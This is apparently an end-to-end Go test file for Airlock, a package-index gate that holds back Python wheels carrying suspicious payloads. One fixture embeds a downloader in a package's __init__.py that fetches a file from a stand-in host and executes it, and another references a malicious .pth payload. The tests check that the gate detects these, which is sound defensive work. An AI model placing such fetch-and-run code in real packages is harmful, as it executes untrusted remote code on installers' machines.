package e2e

import (
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"airlock/internal/fakepypi"
)

// TestPagesDownloadNothing (point 2 of the gate issue): with background
// checks off, installing the tree with each client downloads from the
// upstream only the files the clients asked for — no earlier releases, no
// newer release in its cooldown, no other platform.
func TestPagesDownloadNothing(t *testing.T) {
	cls := clients(t)
	fake := newUpstream(t)
	var notWanted []*fakepypi.Dist
	notWanted = append(notWanted, fake.AddWheel(fakepypi.WheelSpec{Name: "alpha", Version: "0.9"}, uploaded.Add(-time.Hour)))
	for _, tag := range []string{"cp311-cp311-win_amd64", "cp312-cp312-macosx_11_0_arm64"} {
		notWanted = append(notWanted, fake.AddWheel(fakepypi.WheelSpec{Name: "alpha", Version: "1.2", Tag: tag}, time.Now().Add(-time.Hour)))
	}
	a := startAirlock(t, t.TempDir(), airlockEnv(fake, "AIRLOCK_BACKGROUND_WORKERS=0")...)
	for _, c := range cls {
		t.Run(c.name, func(t *testing.T) {
			target := t.TempDir()
			if out, err := run(t, c.install(a.URL+"/simple/", target, "app")); err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			assertInstalled(t, target, map[string]string{"alpha": "1.1"})
		})
	}
	for _, d := range notWanted {
		if n := fake.Hits("/packages/" + d.SHA256()[:8] + "/" + d.Filename); n != 0 {
			t.Errorf("%s downloaded %d times though no client asked for it", d.Filename, n)
		}
	}
}

// TestRepeatedPayloadIsNew (point 4): 1.1 carries a payload and is held;
// 1.2 repeats it. The baseline is 1.0, the newest release that cleared
// the gate, so 1.2's payload is new, not "always had".
func TestRepeatedPayloadIsNew(t *testing.T) {
	cls := clients(t)
	fake := newUpstream(t)
	fake.AddWheel(fakepypi.WheelSpec{Name: "litellm", Version: "1.0"}, uploaded)
	fake.AddWheel(fakepypi.WheelSpec{Name: "litellm", Version: "1.1", Extra: poisonPth}, uploaded.Add(time.Hour))
	fake.AddWheel(fakepypi.WheelSpec{Name: "litellm", Version: "1.2", Extra: poisonPth}, uploaded.Add(2*time.Hour))
	a := startAirlock(t, t.TempDir(), airlockEnv(fake)...)
	for i, c := range cls {
		t.Run(c.name, func(t *testing.T) {
			if i == 0 {
				if out, err := run(t, c.install(a.URL+"/simple/", t.TempDir(), "litellm==1.1")); err == nil {
					t.Fatalf("1.1 installed:\n%s", out)
				}
			}
			out, err := run(t, c.install(a.URL+"/simple/", t.TempDir(), "litellm==1.2"))
			if err == nil || !strings.Contains(out, "critical pth-exec in litellm_init.pth:1") || !strings.Contains(out, "(not in 1.0)") {
				t.Errorf("repeated payload not held as new against 1.0 (err %v):\n%s", err, out)
			}
		})
	}
}

// TestUndecidedRepeatIsNotABaseline: on a fresh server, repeat 1.0 is
// clean (90 days old); 1.1 and 1.2 carry the same downloader in
// repeat/__init__.py and are past their cooldown (20 and 15 days), and
// nobody ever decided 1.1. 1.1 is not a baseline because a page let it
// through: it did not clear the content check, so 1.2's downloader is new
// against 1.0. Unpinned pip gets 1.0, `airlock check repeat==1.2` says so,
// and no finding is one "the project has always had".
func TestUndecidedRepeatIsNotABaseline(t *testing.T) {
	requireVenv(t)
	pip := pipClient("pinned-pip", filepath.Join(venv, "bin", "python"))
	fake := fakepypi.New()
	t.Cleanup(fake.Close)
	now := time.Now()
	downloader := map[string]string{"repeat/__init__.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('http://example.invalid/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n"}
	fake.AddWheel(fakepypi.WheelSpec{Name: "repeat", Version: "1.0"}, now.Add(-90*24*time.Hour))
	fake.AddWheel(fakepypi.WheelSpec{Name: "repeat", Version: "1.1", Extra: downloader}, now.Add(-20*24*time.Hour))
	fake.AddWheel(fakepypi.WheelSpec{Name: "repeat", Version: "1.2", Extra: downloader}, now.Add(-15*24*time.Hour))
	env := airlockEnv(fake, "AIRLOCK_SIGNALS_ENABLED=false", "AIRLOCK_BACKGROUND_WORKERS=0")
	a := startAirlock(t, t.TempDir(), env...)

	for attempt := 0; ; attempt++ { // the download that brings evidence is refused; the next page holds it
		target := t.TempDir()
		out, err := run(t, pip.install(a.URL+"/simple/", target, "repeat"))
		if err != nil && strings.Contains(out, "Held by Airlock (content") && attempt < 3 {
			continue
		}
		if err != nil {
			t.Fatalf("unpinned: %v\n%s", err, out)
		}
		assertInstalled(t, target, map[string]string{"repeat": "1.0"})
		break
	}
	check := exec.Command(airlockBin, "check", "repeat==1.2")
	check.Env = append(cleanEnv(), append(env, "AIRLOCK_DATA_DIR="+t.TempDir())...)
	out, err := run(t, check)
	if err == nil || !strings.Contains(out, "download-exec") || !strings.Contains(out, "(not in 1.0)") || strings.Contains(out, "always had") {
		t.Errorf("airlock check repeat==1.2 (err %v):\n%s", err, out)
	}
}
